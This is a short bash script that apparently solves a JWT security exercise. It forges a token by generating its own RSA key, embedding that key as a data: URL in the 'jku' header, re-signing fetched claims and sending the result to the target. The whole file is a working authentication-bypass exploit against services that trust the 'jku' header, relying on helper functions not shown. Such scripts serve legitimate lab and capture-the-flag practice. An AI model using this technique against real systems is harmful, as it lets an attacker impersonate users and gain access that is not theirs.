#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at key-address token)")"
own_rsa_key
keys="$(printf '{"keys":[%s]}' "$JWK" | openssl base64 -A)"
header="$(printf '{"alg":"RS256","jku":"data:application/json;base64,%s"}' "$keys" | b64)"
input="$header.$(claims "$token")"
send key-address "$input.$(rs256 "$input")"
